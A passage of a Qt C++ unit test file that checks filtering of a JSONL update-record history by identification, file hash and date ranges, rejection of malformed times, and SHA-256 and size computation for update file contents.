        QTest::newRow("identification contains") << "identification=Boot 2" << 0 << QStringList{"C"};
        QTest::newRow("identification, case matters") << "identification=boot" << 0 << QStringList{};
        QTest::newRow("file, upper case")
            << "sha256=" + sha256.toUpper() << 0 << QStringList{"A", "B", "D", "E"};
        QTest::newRow("until a date: the whole day")
            << "until=2026-12-08" << 0 << QStringList{"A", "B", "OLD", "C", "D"};
        QTest::newRow("since a date: from midnight")
            << "since=2026-12-08" << 0 << QStringList{"B", "OLD", "C", "D", "E"};
        QTest::newRow("one day") << "since=2026-12-08;until=2026-12-08" << 0
                                 << QStringList{"B", "OLD", "C", "D"};
        QTest::newRow("until a local minute, the start of a line without end")
            << "until=2026-12-08T10:57" << 0 << QStringList{"A", "B", "C"};
        QTest::newRow("since, UTC with milliseconds")
            << "since=2026-12-08T08:00:00.001Z" << 0 << QStringList{"OLD", "C", "D", "E"};
        QTest::newRow("since, both ends included, with an offset")
            << "since=2026-12-08 10:00:00+02:00;until=2026-12-08 13:00:00+0100" << 0
            << QStringList{"B", "OLD", "C"};
    }
    void filtersNarrowTheHistory() {
        QFETCH(QString, filter);
        QFETCH(int, last);
        const QString path = dir_->filePath("updates.jsonl");
        QVERIFY(WriteFile(path, MixedRecordFile()));
        RecordFilter chosen;
        for (const QString& part : filter.split(';', Qt::SkipEmptyParts)) {
            const QString key = part.section('=', 0, 0);
            const QString value = part.section('=', 1);
            if (key == "since" || key == "until")
                QCOMPARE(ParseFilterTime(value, key == "until", key == "until" ? chosen.until : chosen.since),
                         QString());
            else
                (key == "station"          ? chosen.station
                 : key == "verdict"        ? chosen.verdict
                 : key == "shift"          ? chosen.shift
                 : key == "identification" ? chosen.identification
                                           : chosen.fileSha256) = value;
        }
        const RecordHistory history = ReadUpdateRecords(path, last, chosen);
        QCOMPARE(history.error, QString());
        QCOMPARE(history.unreadableLines, 0);
        QTEST(Ports(history.records), "ports");
        for (const QJsonObject& record : history.records) {
            if (record.value("port") == "OLD")
                QVERIFY(record.value("id").isUndefined() && record.value("station").isUndefined());
        }

        // What is no time is refused, with the forms that are.
        for (const QString wrong : {"2026-02-30", "14:30", "2026-12-08T24:00", "2026-12-08 14:30 CET",
                                    "08.12.2026", "2026-12-08T14:30+25:00", ""}) {
            QDateTime time;
            const QString error = ParseFilterTime(wrong, false, time);
            QVERIFY2(error.contains("2026-12-08T14:30"), qPrintable(wrong + ": " + error));
        }
    }

    void updateFileFacts_data() {
        QTest::addColumn<QByteArray>("content");
        QTest::addColumn<QString>("sha256");
        // Expected hashes from sha256sum.
        QTest::newRow("short text") << QByteArray("RQ-70 update file\n")
                                    << "87b5f9aa3395bf658fd3eecb5a2c77bef49c7297c7739beb061129d6c390911d";
        QTest::newRow("empty") << QByteArray("")
                               << "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        // Bytes i % 251 for i below 3 MiB + 5.
        QByteArray large(3 * 1024 * 1024 + 5, Qt::Uninitialized);
        for (qsizetype i = 0; i < large.size(); ++i)
            large[i] = char(i % 251);
        QTest::newRow("large") << large << "b01669d77761c4dfdfc8fb927821087bcf5c9ef1f917c4f1f8504e529f19edab";
    }
    void updateFileFacts() {
        QFETCH(QByteArray, content);
        const UpdateFileFacts facts =
            UpdateFileFactsOf(std::string_view(content.constData(), content.size()));
        QCOMPARE(facts.size, qint64(content.size()));
        QTEST(facts.sha256, "sha256");
    }
};

int main(int argc, char** argv) {
    QCoreApplication app(argc, argv);
    if (argc == 4 && qstrcmp(argv[1], AppendingProgramArgument) == 0)
        return RunAsAppendingProgram(QString::fromLocal8Bit(argv[2]), QByteArray(argv[3]).toInt());
    TestUpdateRecord test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_updaterecord.moc"
